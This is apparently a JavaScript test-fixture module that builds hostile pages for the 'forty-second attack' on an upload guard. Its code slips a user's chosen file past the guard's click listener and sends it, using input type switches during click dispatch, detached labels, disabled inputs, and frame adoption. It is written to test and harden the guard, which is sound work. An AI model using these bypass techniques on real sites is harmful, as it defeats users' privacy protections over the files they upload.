// Hostile pages for the forty-second attack on the upload guard: inputs the
// guard does not see as file inputs when the person's trusted click passes
// its capture listener at the window (guard.js onClick), but which are file
// inputs when the browser runs the click's activation behaviour (Chromium
// reads the input's type again at DOMActivate, after the dispatch). The
// person clicks "#open", which here is the page's own <input>.
// Served by server.mjs at /attack42-…; tests: attack42.test.mjs.

import { attackPages, pickerWaysPage } from './uploads.mjs';

/**
 * The person's target: a connected <input type=`type`> that takes over the id "open" (the button loses it), and,
 * on it (target phase, after the guard's capture listener at the window), `onClick` (page code: `i` the input,
 * `e` the event). Whatever file the input gets is sent from its change listener.
 */
const target = (type, onClick, extra = '') => `
      const b0 = document.getElementById('open');
      b0.id = 'open0';
      const i = document.createElement('input');
      i.type = '${type}';
      i.id = 'open';
      i.style.cssText = 'display: block; width: 300px; height: 40px;';
      const sent = () => { if (i.files && i.files.length) { note('change: ' + i.files[0].name + ' ' + i.files[0].size + ', connected ' + i.isConnected); send([...i.files], 'change'); } };
      i.addEventListener('change', sent);
      i.addEventListener('input', () => note('input event, connected ' + i.isConnected));
      i.addEventListener('cancel', () => note('cancel event'));
      document.body.prepend(i);
      ${extra}
      i.addEventListener('click', (e) => {
        ${onClick}
        note('click: type ' + i.type + ', connected ' + i.isConnected + ', prevented ' + e.defaultPrevented + ', activation ' + navigator.userActivation.isActive);
        setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-4).join(' / '); }, 0);
      });`;

/** In the person's click on "attach a photo": a text input `i` that becomes a file input in its own click listener; `how` opens it. */
const inClick = (how, onItsClick = "i.type = 'file';") => `
      document.getElementById('open').addEventListener('click', () => {
        const i = document.createElement('input');
        i.addEventListener('change', () => { if (i.files && i.files.length) { note('change: ' + i.files[0].name + ' ' + i.files[0].size); send([...i.files], 'change'); } });
        i.addEventListener('click', (e) => { ${onItsClick} note('its click: trusted ' + e.isTrusted + ', activation ' + navigator.userActivation.isActive); });
        try { ${how} note('asked'); } catch (e) { note('threw ' + e.name); }
        setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-4).join(' / '); }, 0);
      });`;

/**
 * A file input of a same-origin child frame's document (the child has no activation of its own: the person's click
 * in the top activates the top and its ancestors only), opened in the person's click with `how` (top's wrappers);
 * its click listener adopts it into the top's document (`then` after).
 */
const otherDoc = (how, then = '') => `
      const k = document.createElement('iframe');
      k.srcdoc = '<p>child</p>';
      k.style.cssText = 'width: 10px; height: 10px;';
      document.body.append(k);
      document.getElementById('open').addEventListener('click', () => {
        const cw = k.contentWindow;
        note('child activation ' + cw.navigator.userActivation.isActive + ', top ' + navigator.userActivation.isActive);
        const i = cw.document.createElement('input');
        i.type = 'file';
        i.addEventListener('change', () => { if (i.files && i.files.length) { note('change: ' + i.files[0].name + ' ' + i.files[0].size); send([...i.files], 'change'); } });
        i.addEventListener('click', (e) => { document.adoptNode(i); ${then} note('its click: owner top ' + (i.ownerDocument === document) + ', activation ' + navigator.userActivation.isActive); });
        try { ${how} note('asked'); } catch (e) { note('threw ' + e.name); }
        setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-4).join(' / '); }, 0);
      });`;

/**
 * In the person's click on "attach a photo": a DETACHED <label> holding an input `i` of type `type` (`attrs` set
 * on it first); `onLabelClick` runs in the label's click listener, then `l.click()` (the label's activation clicks
 * its control inside the call, where no listener of the guard's at the window hears a detached one).
 */
const labelClick = (type, attrs, onLabelClick, onItsClick = '') => `
      document.getElementById('open').addEventListener('click', () => {
        const l = document.createElement('label');
        const i = document.createElement('input');
        i.type = '${type}';
        ${attrs}
        l.append(i);
        i.addEventListener('change', () => { if (i.files && i.files.length) { note('change: ' + i.files[0].name + ' ' + i.files[0].size); send([...i.files], 'change'); } });
        l.addEventListener('click', (e) => { ${onLabelClick} note('label click: trusted ' + e.isTrusted); });
        i.addEventListener('click', (e) => { ${onItsClick} note('its click: type ' + i.type + ', prevented ' + e.defaultPrevented); });
        try { l.click(); note('asked'); } catch (e) { note('threw ' + e.name); }
        setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-4).join(' / '); }, 0);
      });`;

const HTML_WAYS = {
  // A detached label of a file input, clicked with l.click() (the page world's click wrapper saw a label).
  labelfile: labelClick('file', '', ''),
  // The same with a span inside the label clicked.
  labelspanfile: labelClick('file', '', '').replace('l.append(i);', "l.append(i); const sp = document.createElement('span'); l.append(sp);").replace('l.click();', 'sp.click();'),
  // A detached label of a DISABLED file input, enabled in the label's click listener.
  labeldisabled: labelClick('file', 'i.disabled = true;', 'i.disabled = false;'),
  // A detached label of a TEXT input made a file input in its own click listener.
  labelswitch: labelClick('text', '', '', "i.type = 'file';"),
  // otherDoc's input opened with the top's wrapped dispatchEvent / click() / showPicker.
  otherdocdispatch: otherDoc("EventTarget.prototype.dispatchEvent.call(i, new MouseEvent('click', { bubbles: true, cancelable: true }));"),
  otherdocclick: otherDoc("HTMLElement.prototype.click.call(i);"),
  otherdocshow: otherDoc("HTMLInputElement.prototype.showPicker.call(i);"),
  // A DISABLED detached file input: the guard answers no pick for it (guard.js 'file-pick': `input.disabled`), so
  // the wrapped dispatchEvent runs the native call with the page's own click; the input's click listener enables it.
  disabledswitch: inClick("i.type = 'file'; i.disabled = true; i.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));", "i.disabled = false;"),
  // The same with click().
  disabledclick: inClick("i.type = 'file'; i.disabled = true; i.click();", "i.disabled = false;"),
  // No click on the input by the person at all: in the person's click on "attach a photo", the page makes a
  // DETACHED text input and calls its click() (the page world's wrapper sees no file input and runs the native
  // click); the input's own click listener makes it a file input during that dispatch.
  clickswitch: inClick("i.click();"),
  // The same with a dispatched click event (the wrapped dispatchEvent sees no file input either).
  dispatchswitch: inClick("i.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));"),
  // The same, the input connected (its change then passes the guard at the window).
  clickswitchin: inClick("document.body.append(i); i.click();"),
  // Control: a plain connected file input clicked by the person (the guard's own picker: cleaned).
  fileclick: target('file', ''),
  // A text input whose own click listener (after the guard's capture listener) makes it a file input.
  typeswitch: target('text', "i.type = 'file';"),
  // The same, and the input taken out of the document in the listener: its change never reaches the window.
  typeswitchout: target('text', "i.type = 'file'; i.remove();"),
  // A checkbox, switched in the click listener (a type whose pre-activation Chromium ran as a checkbox).
  checkswitchout: target('checkbox', "i.type = 'file'; i.remove();"),
  // A button input, switched (and taken out).
  buttonswitchout: target('button', "i.type = 'file'; i.remove();"),
  // The type switched through setAttribute, the input moved into a detached div.
  attrswitchout: target('text', "i.setAttribute('type', 'file'); document.createElement('div').append(i);"),
  // Switched and left connected (as typeswitch), the files polled from a 0 ms timer started in the click: the
  // original is sent if the poll ever sees it (the guard's window capture listener takes input/change first).
  typeswitchpoll: target('text', "i.type = 'file'; const t = setInterval(() => { if (i.files && i.files.length) { clearInterval(t); note('poll saw ' + i.files[0].name + ' ' + i.files[0].size); if (i.files[0].name === 'sample.jpg') send([...i.files], 'poll'); } }, 0);"),
  // The person clicks a <label> (#open) whose control is a text input (not in the label): the label's click on its
  // control passes the guard as a text input's; the control's own listener switches it and takes it out.
  labelswitchout: `
      const b0 = document.getElementById('open');
      b0.id = 'open0';
      const i = document.createElement('input');
      i.id = 'ctl';
      i.addEventListener('change', () => { if (i.files && i.files.length) { note('change: ' + i.files[0].name + ' ' + i.files[0].size); send([...i.files], 'change'); } });
      const l = document.createElement('label');
      l.id = 'open';
      l.htmlFor = 'ctl';
      l.textContent = 'attach a photo (label)';
      l.style.cssText = 'display: block; padding: 10px;';
      document.body.prepend(l, i);
      i.addEventListener('click', (e) => {
        i.type = 'file';
        i.remove();
        note('control click: trusted ' + e.isTrusted + ', activation ' + navigator.userActivation.isActive);
        setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-4).join(' / '); }, 0);
      });`,
  // The switched input moved into a same-origin frame's document (adopted) instead of taken out: does that window's
  // guard hear its change?
  typeswitchadopt: target('text', "i.type = 'file'; window.kid.document.body.append(i);", `
      const k = document.createElement('iframe');
      k.src = '/px/never.gif';
      k.style.cssText = 'width: 10px; height: 10px;';
      document.body.append(k);
      window.kid = k.contentWindow;`),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack42Page = attackPages(42, picker, {});
